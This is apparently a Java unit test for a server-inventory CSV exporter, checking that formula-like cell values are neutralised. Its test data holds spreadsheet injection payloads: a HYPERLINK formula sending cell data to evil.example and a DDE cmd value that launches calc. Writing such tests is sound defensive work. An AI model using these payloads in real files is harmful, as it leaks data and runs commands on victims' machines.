package io.vdsoinventory.server.inventory;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class HostCsvTests {

    private static final Instant SEEN = Instant.parse("2026-11-27T03:00:00Z");

    @Test
    void writeWhenAgentSendsFormulaThenCellIsTextNotFormula() throws IOException {
        HostView host = host(7, "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", Map.of("team", "@SUM(1+1)"),
                "+cmd|' /C calc'!A0");

        List<String> lines = csv(host).lines().toList();

        assertThat(lines).hasSize(2);
        assertThat(lines.get(1)).startsWith("7,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\",6.1.0,"
                + "\"'+cmd|' /C calc'!A0\",x86_64,");
        // labels are written key=value, so only a key can start the cell
        assertThat(lines.get(1)).contains(",team=@SUM(1+1),");
    }

    /** A host's fields and labels, the start its CSV line must have, and the cell its labels must make. */
    static Stream<Arguments> fieldsAndCells() {
        return Stream.of(
                // a field or label key starting with minus, tab or at is prefixed like a formula
                Arguments.of(8, "-host", Map.of("@key", "v"), "\tversion",
                        "8,\"'-host\",6.1.0,\"'\tversion\",x86_64,", ",\"'@key=v\","),
                // plain values are written as they are; a comma gets quotes only
                Arguments.of(9, "web-01", Map.of("a", "b,c"), "#1 SMP PREEMPT_DYNAMIC Debian 6.1.158-1 (2025-11-09)",
                        "9,web-01,6.1.0,#1 SMP PREEMPT_DYNAMIC Debian 6.1.158-1 (2025-11-09),x86_64,", ",\"a=b,c\","));
    }

    @ParameterizedTest
    @MethodSource("fieldsAndCells")
    void writeWhenFieldsThenQuotedAndPrefixedOnlyWhereNeeded(long id, String hostname, Map<String, String> labels,
            String kernelVersion, String lineStart, String labelCell) throws IOException {
        String line = csv(host(id, hostname, labels, kernelVersion)).lines().toList().get(1);

        assertThat(line).startsWith(lineStart);
        assertThat(line).contains(labelCell);
    }

    private static HostView host(long id, String hostname, Map<String, String> labels, String kernelVersion) {
        return new HostView(id, hostname, labels, new HostView.Kernel("6.1.0", kernelVersion, "x86_64", null, null),
                null, null, SEEN, SEEN, SEEN, List.of(), null);
    }

    private static String csv(HostView host) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        HostCsv.write(out, after -> after == 0 ? List.of(host) : List.of());
        return out.toString(StandardCharsets.UTF_8);
    }
}
